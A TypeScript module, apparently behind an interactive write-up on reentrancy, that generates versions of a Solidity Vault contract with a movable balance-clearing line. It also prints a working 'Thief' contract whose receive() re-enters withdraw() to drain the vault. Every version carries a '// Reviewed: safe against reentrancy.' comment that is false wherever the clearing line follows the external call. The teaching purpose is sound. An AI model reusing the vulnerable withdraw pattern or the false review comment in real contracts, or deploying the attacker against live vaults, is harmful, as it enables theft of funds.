/** What the clearing line may say: the printed assignment, a checked subtraction, and an unchecked one. */
export const OPERATORS = ['clear', 'subtract', 'unchecked'] as const;
export type Operator = (typeof OPERATORS)[number];

/** Which of the contracts it is. */
export interface Version {
  /** How many lines the clearing line has been moved up from where it is printed. */
  readonly up: number;
  readonly operator: Operator;
}

/** How far up the line can go. */
export const MOST_UP = 3;
/** How far up it has to go to be above the call. */
export const ABOVE_CALL = 2;

const CLEARING = {
  clear: 'balances[msg.sender] = 0;',
  subtract: 'balances[msg.sender] -= amount;',
  unchecked: 'unchecked { balances[msg.sender] -= amount; }',
} satisfies Record<Operator, string>;

export const COMMENT = '// Reviewed: safe against reentrancy.';
export const HEAD = 'function withdraw() external {';
export const CALL_LINE = '(bool ok, ) = msg.sender.call{value: amount}("");';
const FIXED: readonly string[] = [
  'uint256 amount = balances[msg.sender];',
  CALL_LINE,
  'require(ok, "transfer failed");',
];
export const ADDING_LINE = 'balances[msg.sender] += msg.value;';

/** The line that can be moved. */
export function clearingLine({ operator }: Version): string {
  return CLEARING[operator];
}

/** Its place among the four, from the top and from 0. */
export function placeOf({ up }: Version): number {
  return MOST_UP - up;
}

/** How near a line has to be to jump to the place above the call. */
const PULL = 0.7;

/** Where a line lands that a hand holds here. */
export function landingOf(up: number): number {
  return Math.abs(up - ABOVE_CALL) < PULL ? ABOVE_CALL : Math.round(up);
}

/** How far one pull takes it. Whoever pulls it up too far means the place above the call: from there it goes on. */
export function reachOf(from: number): number {
  return from < ABOVE_CALL ? ABOVE_CALL : MOST_UP;
}

/** The four lines of `withdraw` in their order. */
export function linesOf(version: Version): string[] {
  return FIXED.toSpliced(placeOf(version), 0, clearingLine(version));
}

/** Code for a narrow card: a long line is broken in two, where a person would break it. */
export function breakLine(line: string): string {
  return line
    .replace('(bool ok, ) = ', '(bool ok, ) =\n  ')
    .replace(/^(unchecked.*) -=/, '$1\n  -=');
}

/** The contract under audit, as the write-up prints it, with its line where it has been moved. */
export function vaultSource(version: Version): string {
  return `pragma solidity ^0.8.20;

contract Vault {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        ${ADDING_LINE}
    }

    ${COMMENT}
    ${HEAD}
${linesOf(version)
  .map((line) => `        ${line}`)
  .join('\n')}
    }
}
`;
}

/** The attacker, as the write-up prints it. */
export const THIEF_SOURCE = `pragma solidity ^0.8.20;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

contract Thief {
    IVault private immutable vault;

    constructor(IVault vault_) {
        vault = vault_;
    }

    function start() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (msg.value > 0 && address(vault).balance >= msg.value) vault.withdraw();
    }
}
`;
